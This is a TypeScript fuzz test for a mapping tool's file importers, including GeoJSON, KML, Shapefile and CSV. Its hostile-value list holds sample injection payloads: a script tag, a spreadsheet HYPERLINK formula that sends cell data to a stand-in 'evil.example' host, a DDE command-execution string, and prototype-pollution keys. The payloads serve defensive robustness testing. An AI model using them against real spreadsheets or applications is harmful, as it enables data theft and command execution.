// Seeded fuzz: each importer gets 1,000 malformed or hostile inputs (pinned seeds). None may throw; each
// answer is either a layer or structured errors naming the file; the input bytes are never modified.
// Hostile includes prototype names as keys, formula strings, deep nesting and archives whose declared
// sizes lie; and whatever an importer accepts, every writer takes without throwing.
import { unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { coverageFromFeatures } from '../../src/core/model';
import { readAnyFile, writeAnyFile } from '../../src/io/formats';
import { readCsvPoints } from '../../src/io/csv-points';
import type { IoResult } from '../../src/io/errors';
import { readGeoJson } from '../../src/io/geojson';
import type { ImportedLayer } from '../../src/io/import-types';
import { readKml } from '../../src/io/kml';
import { readShapefileZip } from '../../src/io/shapefile';
import { readTopoJson } from '../../src/io/topojson';
import { rng, twoUnitCoverage, unwrap } from './helpers';

const CASES = 1000;

const HOSTILE_VALUES: readonly unknown[] = [
  NaN, Infinity, -Infinity, 1e308, -1e308, 5e-324, 2 ** 53 + 1, -0, '', '106.3', null, true, [], {}, [[[]]],
  '<script>alert(1)</script>', '"]]></value><x>', '\u0000\uffff\ud800', '__proto__', { __proto__: { polluted: 1 } },
  'a'.repeat(10_000), '=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", '@SUM(A1)', '\t=1', 'constructor',
  JSON.parse(`${'['.repeat(100)}${']'.repeat(100)}`) as unknown,
];

/** Text-level nesting far deeper than any value the mutator could stringify. */
const deepen = (text: string, r: () => number) => {
  const at = text.indexOf('[', Math.floor(r() * text.length));
  const n = 1000 + Math.floor(r() * 100_000);
  return at < 0 ? text : `${text.slice(0, at)}${'['.repeat(n)}${text.slice(at, at + 1)}${']'.repeat(n)}${text.slice(at + 1)}`;
};

/** Keys that are Object.prototype members, or otherwise trip lookups by name. */
const HOSTILE_KEYS = ['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty', '', 'formedFrom', 'a'.repeat(300)];

function pick<T>(r: () => number, xs: readonly T[]): T {
  return xs[Math.floor(r() * xs.length)]!;
}

/** Replaces one random node of a JSON value with a hostile one, or re-nests it. */
function mutateJson(v: unknown, r: () => number, depth = 0): unknown {
  if (depth > 8 || r() < 0.15) {
    const choice = r();
    if (choice < 0.6) return pick(r, HOSTILE_VALUES);
    if (choice < 0.8) return [v];
    return { type: pick(r, ['Feature', 'Polygon', 'FeatureCollection', 'Topology', 'GeometryCollection', 'Nope']), coordinates: v, geometries: v, features: v, arcs: v };
  }
  if (Array.isArray(v)) {
    if (v.length === 0) return v;
    const i = Math.floor(r() * v.length);
    const out = [...v];
    if (r() < 0.1) out.splice(i, 1);
    else out[i] = mutateJson(v[i], r, depth + 1);
    return out;
  }
  if (v && typeof v === 'object') {
    const keys = Object.keys(v);
    if (keys.length === 0) return v;
    const k = pick(r, keys);
    const out: Record<string, unknown> = { ...(v as Record<string, unknown>) };
    if (r() < 0.1) delete out[k];
    else if (r() < 0.15) Object.defineProperty(out, pick(r, HOSTILE_KEYS), { value: pick(r, HOSTILE_VALUES), enumerable: true, writable: true, configurable: true });
    else out[k] = mutateJson(out[k], r, depth + 1);
    return out;
  }
  return pick(r, HOSTILE_VALUES);
}

/** Byte-level damage: flips, truncation, insertion of junk, duplication. */
function mutateBytes(b: Uint8Array, r: () => number): Uint8Array {
  const out = Array.from(b);
  const n = 1 + Math.floor(r() * 8);
  for (let i = 0; i < n && out.length > 0; i++) {
    const at = Math.floor(r() * out.length);
    const op = r();
    if (op < 0.4) out[at] = Math.floor(r() * 256);
    else if (op < 0.6) out.length = at;
    else if (op < 0.8) out.splice(at, 0, ...Array.from({ length: 1 + Math.floor(r() * 16) }, () => Math.floor(r() * 256)));
    else out.splice(at, 0, ...out.slice(at, at + 64));
  }
  return Uint8Array.from(out);
}

function expectStructured(name: string, input: Uint8Array | string, read: () => IoResult<ImportedLayer>): void {
  const copy = typeof input === 'string' ? input : input.slice();
  let result: IoResult<ImportedLayer>;
  try {
    result = read();
  } catch (e) {
    throw new Error(`importer threw on ${name}: ${e instanceof Error ? e.stack : String(e)}`);
  }
  if (result.ok) {
    expectWritable(name, result.value);
    for (const f of result.value.features) {
      const polys = f.geometry.type === 'Polygon' ? [f.geometry.coordinates] : f.geometry.coordinates;
      for (const p of polys) for (const ring of p) for (const q of ring) expect(Math.abs(q[0]!) <= 180 && Math.abs(q[1]!) <= 90).toBe(true);
    }
  } else {
    expect(result.errors.length).toBeGreaterThan(0);
    for (const e of result.errors) {
      expect(typeof e.code).toBe('string');
      expect(e.file.startsWith(name)).toBe(true);
      expect(typeof e.message).toBe('string');
      // Said in the file's terms: a JavaScript exception's text is no message for an officer.
      expect(e.message, `${name}: ${e.message}`).not.toMatch(/TypeError|RangeError|ReferenceError|Cannot read propert|is not a function|is not iterable/);
    }
  }
  // Compared byte by byte here: toEqual on a 200 KB array costs a second.
  if (typeof input !== 'string') expect(input.length === copy.length && input.every((b, i) => b === (copy as Uint8Array)[i]), `${name}: input modified`).toBe(true);
}

const WRITERS = ['o.geojson', 'o.topojson', 'o.kml', 'o.zip', 'o.csv'];
let written = 0;

/**
 * The writers take what an importer accepted: a file, or structured errors, never an exception. One
 * writer per accepted input, in turn, keeps the run short; over the cases each writer sees hundreds.
 */
function expectWritable(name: string, layer: ImportedLayer): void {
  let c;
  try {
    c = coverageFromFeatures(layer.features);
  } catch {
    return; // the topology builder's own limits are not this test's subject
  }
  const out = WRITERS[written++ % WRITERS.length]!;
  const w = writeAnyFile(out, c);
  if (!w.ok) for (const e of w.errors) expect(e.code, `${name} → ${out}: ${e.message}`).not.toBe('write-failed');
}

const enc = (s: string) => new TextEncoder().encode(s);
const sample = (name: string) => unwrap(writeAnyFile(name, twoUnitCoverage())).bytes;

describe(`fuzz: ${CASES} hostile inputs per importer, no crash, a structured error each`, () => {
  it('GeoJSON (seed 1)', () => {
    const r = rng(1);
    const doc: unknown = JSON.parse(new TextDecoder().decode(sample('a.geojson')));
    for (let i = 0; i < CASES; i++) {
      const text = JSON.stringify(mutateJson(doc, r)) ?? 'undefined';
      const input = r() < 0.7 ? enc(r() < 0.05 ? deepen(text, r) : text) : mutateBytes(sample('a.geojson'), r);
      expectStructured('f.geojson', input, () => readGeoJson('f.geojson', input));
    }
  });

  it('TopoJSON (seed 2)', () => {
    const r = rng(2);
    const doc: unknown = JSON.parse(new TextDecoder().decode(sample('a.topojson')));
    for (let i = 0; i < CASES; i++) {
      const text = JSON.stringify(mutateJson(doc, r)) ?? 'undefined';
      const input = r() < 0.7 ? enc(r() < 0.05 ? deepen(text, r) : text) : mutateBytes(sample('a.topojson'), r);
      expectStructured('f.topojson', input, () => readTopoJson('f.topojson', input));
    }
  });

  it('KML (seed 3)', () => {
    const r = rng(3);
    const base = sample('a.kml');
    const junk = ['<', '>', '&', '&amp;', '<!DOCTYPE x [<!ENTITY a "aaaa">]>', '&a;', '<coordinates>1e400,NaN</coordinates>', ']]>', '<Polygon>', '</kml>'];
    for (let i = 0; i < CASES; i++) {
      let input = mutateBytes(base, r);
      if (r() < 0.5) {
        const text = new TextDecoder().decode(base);
        const at = Math.floor(r() * text.length);
        input = enc(text.slice(0, at) + pick(r, junk) + text.slice(at));
      }
      expectStructured('f.kml', input, () => readKml('f.kml', input));
    }
  });

  it('zipped Shapefile (seed 4)', () => {
    const r = rng(4);
    const base = sample('a.zip');
    const members = unzipMembers(base);
    for (let i = 0; i < CASES; i++) {
      let input: Uint8Array;
      if (r() < 0.5) input = mutateBytes(base, r);
      else {
        // Damage one member and zip again, so the damage reaches the .shp/.dbf/.prj/.cpg readers.
        const name = pick(r, Object.keys(members));
        input = zipSync({ ...members, [name]: mutateBytes(members[name]!, r) });
      }
      expectStructured('f.zip', input, () => readShapefileZip('f.zip', input));
    }
  });

  it('CSV points (seed 5)', () => {
    const r = rng(5);
    const base = sample('a.csv');
    const cells = ['NaN', '1e309', '-', '"', '""', ';', '\t', '106,3', '<b>x</b>', '', '999999999999'];
    for (let i = 0; i < CASES; i++) {
      let input = mutateBytes(base, r);
      if (r() < 0.5) {
        const lines = new TextDecoder().decode(base).split('\n');
        const li = Math.floor(r() * lines.length);
        const parts = lines[li]!.split(',');
        parts[Math.floor(r() * parts.length)] = pick(r, cells);
        lines[li] = parts.join(',');
        input = enc(lines.join('\n'));
      }
      expectStructured('f.csv', input, () => readCsvPoints('f.csv', input));
    }
  });
});

describe(`fuzz: ${CASES / 4} archives whose declared sizes lie, per archive format`, () => {
  /** Sets a random member's declared size (central directory and local header) to a random lie. */
  function lie(zip: Uint8Array, r: () => number): Uint8Array {
    const out = zip.slice();
    const v = new DataView(out.buffer);
    const sizes = [0, 1, 1000, 65_535, 2 ** 26 + 1, 2 ** 31, 2 ** 32 - 1];
    const size = r() < 0.5 ? pick(r, sizes) : Math.floor(r() * 2 ** 32);
    const member = Math.floor(r() * 5);
    let local = 0, central = 0;
    for (let i = 0; i + 4 <= out.length; i++) {
      const sig = v.getUint32(i, true);
      if (sig === 0x04034b50 && local++ === member) v.setUint32(i + 22, size, true);
      if (sig === 0x02014b50 && central++ === member) v.setUint32(i + 24, size, true);
    }
    return out;
  }

  it('KMZ (seed 6)', () => {
    const r = rng(6);
    const zip = zipSync({ 'doc.kml': sample('a.kml') });
    for (let i = 0; i < CASES / 4; i++) {
      const input = lie(zip, r);
      expectStructured('f.kmz', input, () => readAnyFile('f.kmz', input));
    }
  });

  it('zipped Shapefile (seed 7)', () => {
    const r = rng(7);
    const zip = sample('a.zip');
    for (let i = 0; i < CASES / 4; i++) {
      const input = lie(zip, r);
      expectStructured('f.zip', input, () => readShapefileZip('f.zip', input));
    }
  });
});

function unzipMembers(zip: Uint8Array): Record<string, Uint8Array> {
  return { ...unzipSync(zip) };
}
